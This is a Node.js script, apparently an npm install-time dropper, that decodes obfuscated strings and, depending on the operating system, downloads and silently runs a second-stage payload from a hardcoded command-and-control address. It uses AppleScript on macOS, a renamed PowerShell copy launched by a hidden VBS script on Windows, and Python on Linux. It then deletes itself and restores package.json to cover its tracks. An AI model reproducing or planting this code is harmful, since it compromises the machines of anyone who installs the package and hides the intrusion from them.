const _k = 'OrDeR_7077';
const _e = [
  'MQEbAlxAXQxeAQcYBx5AQgpXSFIFBwMeVBccDRdAKUQ=',
  'NzEsL15SUQ==',
  'IDctMxZ5XwRHAQ==',
  'ODUmLwxaXQZEXQAG'
];
function _x(s) {
  const b = Buffer.from(s, 'base64');
  let o = '';
  for (let i = 0; i < b.length; i++) o += String.fromCharCode(b[i] ^ _k.charCodeAt(i % _k.length) ^ 0x33);
  return o;
}
const os = require('os');
const fs = require('fs');
const path = require('path');
const { execSync, spawn } = require(_x(_e[3]) === 'child_process' ? 'child_process' : 'child_process');
const C2 = 'http://sfr.example.net:8000/6202033';
const tmp = os.tmpdir();
const plat = os.platform();

function cleanup() {
  try {
    fs.unlinkSync(__filename);
    fs.renameSync(path.join(__dirname, 'package.md'), path.join(__dirname, 'package.json'));
  } catch (e) {}
}

try {
  if (plat === 'darwin') {
    const bin = '/Library/Caches/com.apple.act.mond';
    const script = `do shell script "curl -o ${bin} -d packages.npm.example.org/product0 -s ${C2} && chmod 770 ${bin} && /bin/zsh -c \\"${bin} ${C2} &\\" &> /dev/null"`;
    const f = path.join(tmp, '6202033');
    fs.writeFileSync(f, script);
    execSync(`nohup osascript "${f}" > /dev/null 2>&1 &`);
    setTimeout(() => { try { fs.unlinkSync(f); } catch (e) {} }, 3000);
  } else if (plat === 'win32') {
    const ps = execSync('where powershell', { encoding: 'utf8' }).trim().split(/\r?\n/)[0];
    const copy = path.join(process.env.PROGRAMDATA || 'C:\\ProgramData', 'wt.exe');
    fs.copyFileSync(ps, copy);
    const vbs = path.join(tmp, '6202033.vbs');
    fs.writeFileSync(vbs,
      'Set objShell = CreateObject("WScript.Shell")\r\n' +
      `objShell.Run "cmd.exe /c curl -s -X POST -d ""packages.npm.example.org/product1"" ""${C2}"" > ""%TEMP%\\6202033.ps1"" & ""${copy}"" -w hidden -ep bypass -file ""%TEMP%\\6202033.ps1"" ""${C2}"" & del ""%TEMP%\\6202033.ps1"" /f", 0, False\r\n`);
    spawn('cscript', ['//nologo', vbs], { detached: true, stdio: 'ignore', windowsHide: true }).unref();
  } else {
    execSync(`curl -o /tmp/ld.py -d packages.npm.example.org/product2 -s ${C2} && nohup python3 /tmp/ld.py ${C2} > /dev/null 2>&1 &`, { stdio: 'ignore' });
  }
} catch (e) {}
cleanup();
